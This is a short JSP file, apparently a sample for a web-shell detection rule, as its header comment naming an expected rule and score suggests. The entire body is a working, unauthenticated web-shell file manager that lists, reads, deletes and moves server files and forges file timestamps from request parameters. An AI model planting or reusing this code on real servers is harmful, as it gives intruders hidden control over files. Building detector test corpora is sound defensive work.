<%-- expect rule=jsp.file-manager min=70 --%>
<%@ page import="java.io.*" %>
<%
    String act = request.getParameter("act");
    String path = request.getParameter("path");
    File f = new File(path == null ? application.getRealPath("/") : path);
    if ("ls".equals(act)) {
        File[] list = f.listFiles();
        for (int i = 0; list != null && i < list.length; i++) out.println(list[i].getName() + "\t" + list[i].length());
    } else if ("rm".equals(act)) {
        f.delete();
    } else if ("mv".equals(act)) {
        f.renameTo(new File(request.getParameter("to")));
    } else if ("cat".equals(act)) {
        BufferedReader br = new BufferedReader(new FileReader(f));
        String l;
        while ((l = br.readLine()) != null) out.println(l);
    } else if ("touch".equals(act)) {
        f.setLastModified(Long.parseLong(request.getParameter("t")));
    }
%>
